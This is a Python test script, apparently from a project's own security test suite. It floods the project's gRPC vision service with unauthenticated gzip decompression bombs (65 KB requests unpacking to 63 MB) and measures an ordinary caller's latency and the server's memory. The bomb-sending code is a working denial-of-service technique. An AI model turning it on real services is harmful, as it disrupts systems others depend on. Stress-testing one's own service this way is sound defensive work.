"""Requests of 65 KB that unpack to 63 MB, sent without a key, beside a caller with one.

``python -m tests.attacks.bombs`` prints how long the ordinary caller waits and what the server's
memory does. 2 cores, 8 senders, 10 s by default.
"""

from __future__ import annotations

import asyncio
import gzip
import time
from dataclasses import dataclass, field

import grpc

from service.pb.qwen3vl.v1 import vision_pb2 as pb
from service.pb.qwen3vl.v1.vision_pb2_grpc import VisionServiceStub
from tests.attacks.http2 import Connection, message
from tests.attacks.servers import SERVICE, Target, arguments, target

UNPACKED_BYTES = 63 << 20


@dataclass
class Outcome:
    """What was seen. Seconds of the ordinary calls; memory of the server in MiB."""

    seconds: list[float] = field(default_factory=list)
    bombs: int = 0
    before_mib: float = 0.0
    peak_mib: float = 0.0
    after_mib: float = 0.0


def bomb(size: int = UNPACKED_BYTES) -> bytes:
    """A request with one image of zeros, as gzip."""
    request = pb.RunTaskRequest(images=[pb.Image(data=bytes(size))])
    return gzip.compress(request.SerializeToString())


async def attack(
    server: Target, senders: int, seconds: float, path: bytes = SERVICE + b"RunTask"
) -> Outcome:
    """Send bombs for a while, and ordinary calls beside them."""
    body = message(bomb(), compressed=True)
    outcome = Outcome(before_mib=server.memory_mib())
    until = time.monotonic() + seconds

    async def send() -> None:
        connection = await Connection.open(server.host, server.port)
        while time.monotonic() < until:
            stream = connection.call(path, None, (b"grpc-encoding", b"gzip"))
            await connection.send(stream, body)
            await asyncio.wait_for(asyncio.shield(connection.ended[stream]), 60)
            outcome.bombs += 1
        await connection.close()

    async def measure() -> None:
        while time.monotonic() < until:
            outcome.peak_mib = max(outcome.peak_mib, server.memory_mib())
            await asyncio.sleep(0.02)

    async def ordinary() -> None:
        async with grpc.aio.insecure_channel(server.address) as channel:
            stub = VisionServiceStub(channel)
            await channel.channel_ready()
            while time.monotonic() < until:
                begun = time.monotonic()
                await stub.GetModel(pb.GetModelRequest(), metadata=server.metadata, timeout=60)
                outcome.seconds.append(time.monotonic() - begun)
                await asyncio.sleep(0.05)

    await asyncio.gather(ordinary(), measure(), *(send() for _ in range(senders)))
    await asyncio.sleep(1)
    outcome.after_mib = server.memory_mib()
    return outcome


def main() -> None:
    parser = arguments(__doc__)
    parser.add_argument("--senders", type=int, default=8)
    parser.add_argument("--seconds", type=float, default=10)
    options = parser.parse_args()
    with target(options, keys=True) as server:
        seen = asyncio.run(attack(server, options.senders, options.seconds))
    waits = sorted(seen.seconds)
    print(
        f"{seen.bombs} bombs; {len(waits)} ordinary calls: median {waits[len(waits) // 2]:.3f} s, "
        f"slowest {waits[-1]:.3f} s; memory {seen.before_mib:.0f} MiB before, "
        f"{seen.peak_mib:.0f} at most, {seen.after_mib:.0f} after"
    )


if __name__ == "__main__":
    main()
